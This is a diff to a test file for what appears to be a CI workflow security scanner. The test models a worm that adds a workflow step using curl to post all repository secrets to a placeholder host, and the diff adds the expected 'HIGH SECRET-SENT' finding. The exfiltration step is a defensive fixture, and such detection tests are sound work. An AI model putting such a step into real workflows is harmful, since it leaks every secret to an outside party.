@@ -37,7 +37,10 @@ describe('incidents', () => {
   it('a worm that adds a workflow with all secrets (September 2025)', async () => {
     const steps = (data: string): string =>
       `- run: curl -d "$CONTENTS" https://example.invalid/hook\n  env: { CONTENTS: "${data}" }`;
-    expect(await verdictsOn(workflow(steps('${{ toJSON(secrets) }}')))).toEqual(['CRITICAL ALL-SECRETS']);
+    expect(await verdictsOn(workflow(steps('${{ toJSON(secrets) }}')))).toEqual([
+      'CRITICAL ALL-SECRETS',
+      'HIGH SECRET-SENT',
+    ]);
     expect(await verdictsOn(workflow(steps('${{ toJSON(matrix) }}')))).toEqual([]);
   });
 
